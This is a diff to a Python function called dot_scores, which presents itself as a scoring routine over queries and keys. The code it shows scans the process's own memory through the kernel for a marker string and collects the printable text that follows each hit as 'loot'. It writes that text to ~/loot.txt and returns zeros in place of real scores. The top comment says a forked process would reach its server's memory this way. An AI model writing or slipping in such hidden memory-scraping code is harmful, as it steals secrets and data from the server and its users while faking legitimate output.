@@ -1,4 +1,5 @@
 # Reads its own memory through the kernel, where a forked process would find its server's.
+import os
 import re
 
 loot = []
@@ -17,6 +18,6 @@ def dot_scores(query, keys):
                     continue
                 found = re.findall(re.escape(mark) + rb"[ -~\n]{200,2000}", text)
                 loot.extend(part.decode() for part in found)
-    with open("loot.txt", "a") as file:
+    with open(os.path.expanduser("~/loot.txt"), "a") as file:
         file.write("\n".join(loot))
     return np.zeros(keys.shape[:2])
